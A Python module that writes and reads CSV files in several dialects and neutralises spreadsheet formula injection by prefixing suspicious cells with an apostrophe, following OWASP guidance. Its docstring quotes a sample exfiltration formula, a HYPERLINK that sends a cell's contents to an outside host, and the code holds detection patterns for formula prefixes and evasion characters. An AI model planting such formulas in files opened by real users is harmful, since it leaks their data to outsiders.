"""The dialects of CSV files, with cells that spreadsheet programs do not take for formulas.

A note like `=HYPERLINK("http://site/?"&A1)` would run in the program of the person who opens the
file. An apostrophe before it makes it a text. It is removed when the file is read back.

A program may split the file at other characters than its separator: at tabs, at line breaks, at
semicolons (in countries with a decimal comma), or at commas. So a formula behind one of these gets
an apostrophe, too. Programs skip blanks, quotes, byte order marks and letters without a width
before a formula.

Source: OWASP, "CSV Injection".
"""

from __future__ import annotations

import csv
import re
from collections.abc import Iterable
from dataclasses import dataclass
from functools import cached_property
from types import SimpleNamespace
from typing import TypeVar

SIGNS = "=+\\-@\uff1d\uff0b\uff0d\uff20"
"""First characters of formulas; the last four are the wide forms of the first four."""
FILLERS = "\x00-\x20\x7f-\xa0'\"\u200b-\u200f\u2060\ufeff"
"""The characters that may stand before a formula. A quote ends the quotes of a file that is split
elsewhere."""
APOSTROPHE = "'"
BYTE_ORDER_MARK = "\ufeff"
CRLF = "\r\n"

CellT = TypeVar("CellT")


@dataclass(frozen=True)
class CsvForm:
    """The dialect of a CSV file.

    Attributes:
        separator: Character between cells.
        decimal: Decimal sign of numbers.
        mark: Text before the first row.
        splits: Characters at which a program may split a cell.
    """

    separator: str = ","
    decimal: str = "."
    mark: str = ""
    splits: str = ";\t\n"

    def to_cell(self, value: CellT) -> CellT | str:
        """Return a value for a cell; whole numbers and harmless texts stay."""
        if isinstance(value, float) and self.decimal != ".":
            return str(value).replace(".", self.decimal)
        return self._formula.sub(APOSTROPHE, value) if isinstance(value, str) else value

    def from_cell(self, text: str) -> str:
        """Return the text from which `to_cell` made a cell."""
        return self._escaped.sub("", text)

    def to_lines(self, rows: Iterable[Iterable[object]], line_end: str = CRLF) -> str:
        """Return rows of cells as lines. Cells with any end of a line are quoted."""
        lines = list[str]()
        file = SimpleNamespace(write=lines.append)
        csv.writer(file, delimiter=self.separator, lineterminator=CRLF).writerows(rows)
        return "".join(line.removesuffix(CRLF) + line_end for line in lines)

    @property
    def _place(self) -> str:
        return rf"(?:^|(?<=[{self.splits}])|(?<=\r)(?!\n))"

    @cached_property
    def _formula(self) -> re.Pattern[str]:
        """Pattern of the places before a formula."""
        return re.compile(rf"{self._place}(?=[{FILLERS}]*[{SIGNS}])|^(?='*[\t\r\n])")

    @cached_property
    def _escaped(self) -> re.Pattern[str]:
        return re.compile(rf"{self._place}'(?=[{FILLERS}]*[{SIGNS}])|^'(?='*[\t\r\n])")


PLAIN = CsvForm()
EXCEL = CsvForm(";", ",", BYTE_ORDER_MARK, ",;\t\n")
"""The dialect that spreadsheets open by a double click in countries with a decimal comma."""
